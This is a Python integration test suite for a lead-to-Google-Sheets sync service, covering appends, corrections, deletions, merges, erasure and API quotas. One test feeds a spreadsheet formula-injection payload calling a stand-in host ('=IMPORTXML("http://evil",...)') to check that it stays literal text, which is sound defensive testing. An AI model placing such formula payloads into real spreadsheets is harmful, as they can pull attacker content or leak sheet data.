"""Exactly one row per completed lead, equal to PostgreSQL."""

import time
from dataclasses import replace
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa

from dev.standins.google.state import GoogleOptions
from shared.tables import leads, outbox, sheet_rows
from tests.eventually import eventually
from tests.integration.sheets_sync.conftest import OPTIONS
from tests.integration.sheets_sync.world import World, a_form, header


async def test_a_completed_lead_becomes_a_row_under_a_new_header(world: World) -> None:
    async with world.sheets_sync():
        await world.written(*await world.complete(1001))

    assert await world.tab() == [
        header(),
        ["08110001001", "Instagram", "kuliner", "Lead 1001", "500jt", "Januari 2027", "12 Januari 2026", "1001"],
    ]


async def test_a_correction_changes_the_same_row_and_nothing_else(world: World) -> None:
    async with world.sheets_sync():
        await world.written(*await world.complete(1001))
        await world.by_hand("set_cell", row=2, column="D", value="Budi (sudah ditelepon)")
        await world.written(await world.change(1001, form=a_form(biodata="Lead 1001", budget="1 M")))

    row = await world.row_of(1001)
    assert row["budget"] == "1 M"
    assert row["biodata"] == "Budi (sudah ditelepon)"
    assert row["tanggal"] == "12 Januari 2026"


async def test_a_correction_finds_its_row_after_staff_sorted_and_inserted_rows_and_columns(world: World) -> None:
    async with world.sheets_sync():
        await world.written(*await world.complete(1001, 1002, 1003))
        await world.by_hand("sort", column="H", descending=True)
        await world.by_hand("insert_row", row=2)
        await world.by_hand("insert_column", column="A", header="Status")
        await world.by_hand("set_cell", row=5, column="A", value="deal")
        await world.written(await world.change(1001, form=a_form(biodata="Lead 1001", budget="1 M")))

    rows = await world.leads_in_sheet()
    assert [(row["lead_id"], row["budget"], row["Status"]) for row in rows] == [
        ("1003", "500jt", ""),
        ("1002", "500jt", ""),
        ("1001", "1 M", "deal"),
    ]


async def test_a_row_that_staff_deleted_is_not_written_again_and_is_alerted_once(world: World) -> None:
    async with world.sheets_sync():
        await world.written(*await world.complete(1001, 1002))
        await world.by_hand("delete_row", row=2)
        first = await world.change(1001, form=a_form(budget="1 M"))
        await eventually(world.finished(first))
        second = await world.change(1001, form=a_form(budget="2 M"))
        await eventually(world.finished(second))

    assert await world.outcomes(first, second) == ["dropped", "dropped"]
    assert await world.ids_in_sheet() == ["1002"]
    assert (await world.known(1001)).status == "deleted"
    assert [alert["cause"] for alert in await world.alerts()] == ["sheet_row_deleted:1001"]


async def test_a_formula_stays_text_when_appended_and_when_corrected(world: World) -> None:
    form = a_form(biodata='=IMPORTXML("http://evil","//a")', budget="+62811", source_info="'kutip")
    async with world.sheets_sync():
        await world.written(*await world.complete(1001, form=form))
        await world.written(await world.change(1001, form={**form, "budget": {"text": "=1+1"}}))

    row = await world.row_of(1001)
    assert row["biodata"] == '=IMPORTXML("http://evil","//a")'
    assert row["budget"] == "=1+1"
    assert row["sumber_info"] == "'kutip"
    assert row["nomor"] == "08110001001"


async def test_a_hundred_leads_take_a_handful_of_requests(world: World) -> None:
    async with world.sheets_sync():
        await world.written(*await world.complete(*range(1001, 1101)))

    requests = await world.requests()
    assert sorted(map(int, await world.ids_in_sheet())) == list(range(1001, 1101))
    assert requests["spreadsheets.batchUpdate"] + requests.get("values.batchUpdate", 0) <= 6
    assert sum(requests.values()) <= 25


async def test_many_corrections_of_one_lead_collapse(world: World) -> None:
    async with world.sheets_sync():
        await world.written(*await world.complete(1001))
    ids = [await world.change(1001, form=a_form(budget=f"{number} juta")) for number in range(20)]
    before = (await world.requests()).get("values.batchUpdate", 0)

    async with world.sheets_sync():
        await world.written(*ids)

    assert (await world.row_of(1001))["budget"] == "19 juta"
    assert (await world.requests())["values.batchUpdate"] - before == 1


async def test_a_lead_that_is_not_completed_is_ignored_without_a_call_to_google(world: World) -> None:
    async with world.sheets_sync():
        (work,) = await world.complete(1001, completed_at=None)
        await eventually(world.finished(work))

    assert await world.outcomes(work) == ["ignored"]
    assert await world.requests() == {}


async def test_the_row_of_a_lead_that_was_merged_is_emptied_and_marked(world: World) -> None:
    async with world.sheets_sync():
        await world.written(*await world.complete(1001, 1002))
        await world.written(await world.change(1002, reason="merged", merged_into=1001))

    marked = await world.row_of(1002)
    assert marked["biodata"] == "digabung ke 1001"
    assert {text for column, text in marked.items() if column not in {"biodata", "lead_id"}} == {""}
    assert (await world.row_of(1001))["biodata"] == "Lead 1001"


async def test_the_row_of_an_erased_person_is_emptied(world: World) -> None:
    async with world.sheets_sync():
        await world.written(*await world.complete(1001, 1002))
        async with world.engine.begin() as connection:
            await connection.execute(sa.delete(leads).where(leads.c.id == 1001))
        await world.written(*await world.ring(1001, reason="erased"))

    assert [row["nomor"] for row in await world.leads_in_sheet()] == ["", "08110001002"]
    assert "Lead 1001" not in (await world.known(1001)).cells.values()


async def test_a_row_that_is_there_without_our_record_is_adopted_and_not_doubled(world: World) -> None:
    async with world.sheets_sync():
        await world.written(*await world.complete(1001))
    async with world.engine.begin() as connection:
        await connection.execute(sa.delete(sheet_rows))

    async with world.sheets_sync():
        await world.written(await world.change(1001, form=a_form(budget="1 M")))

    assert (await world.row_of(1001))["budget"] == "1 M"


async def test_the_day_in_the_row_is_the_day_of_completion_in_jakarta(world: World) -> None:
    async with world.sheets_sync():
        await world.written(*await world.complete(1001, completed_at=datetime(2026, 8, 16, 17, 30, tzinfo=UTC)))

    assert (await world.row_of(1001))["tanggal"] == "17 Agustus 2026"


async def test_a_telegram_lead_is_named_by_username_else_by_id(world: World) -> None:
    async with world.sheets_sync():
        named = await world.complete(1001, channel="telegram", chat="5550001", phone="", username="budi")
        unnamed = await world.complete(1002, channel="telegram", chat="5550002", phone="")
        await world.written(*named, *unnamed)

    assert (await world.row_of(1001))["nomor"] == "@budi"
    assert (await world.row_of(1002))["nomor"] == "5550002"


async def test_a_full_tab_is_followed_by_a_new_one_and_old_rows_stay_corrigible(world: World) -> None:
    async with world.sheets_sync(MAX_TAB_ROWS="3"):
        await world.written(*await world.complete(1001, 1002))
        await world.written(*await world.complete(1003))
        await world.written(await world.change(1001, form=a_form(budget="1 M")))

    assert await world.ids_in_sheet("Leads") == ["1001", "1002"]
    assert await world.ids_in_sheet("Leads 2") == ["1003"]
    assert (await world.known(1003)).tab == "Leads 2"
    assert (await world.row_of(1001))["budget"] == "1 M"


async def test_guards_do_not_pile_up_in_the_spreadsheet(world: World) -> None:
    async with world.sheets_sync():
        for start in (1001, 1201, 1401):
            await world.written(*await world.complete(*range(start, start + 200)))

    assert len((await world.spreadsheet())["metadata"]) <= 200
    assert len(await world.ids_in_sheet()) == 600


async def test_work_whose_outbox_row_is_gone_leaves_the_stream(world: World) -> None:
    async with world.sheets_sync():
        (work,) = await world.ring(1001, publish=False)
        async with world.engine.begin() as connection:
            await connection.execute(sa.delete(outbox))
        await world.redis.xadd("sheets", {"v": "1", "id": str(work), "at": "2026-01-01T00:00:00Z"})

        async def is_empty() -> bool:
            return await world.redis.xlen("sheets") == 0

        await eventually(is_empty)


async def test_the_stream_is_empty_when_the_work_is_done(world: World) -> None:
    async with world.sheets_sync():
        await world.written(*await world.complete(*range(1001, 1011)))

        async def is_empty() -> bool:
            return await world.redis.xlen("sheets") == 0

        await eventually(is_empty)


class TestUnderGooglesQuota:
    """60 reads and 60 writes a minute, answered 429 beyond."""

    @pytest.fixture
    def google_options(self) -> GoogleOptions:
        return replace(OPTIONS, reads_per_minute=60, writes_per_minute=60)

    async def test_a_flood_of_single_completions_is_never_refused(self, world: World) -> None:
        ids: list[int] = []
        async with world.sheets_sync(GOOGLE_CALLS_PER_MINUTE="48"):
            flood_ends_at = time.monotonic() + 3
            while time.monotonic() < flood_ends_at:
                ids += await world.complete(1001 + len(ids))
                await world.spreadsheet()
            await world.written(*ids, within=30)

        requests = await world.requests()
        reads = [requests[name] for name in ("values.batchGet", "spreadsheets.get", "developerMetadata.search")]
        assert sum(reads) <= 56
        assert len(await world.ids_in_sheet()) == len(ids) >= 100
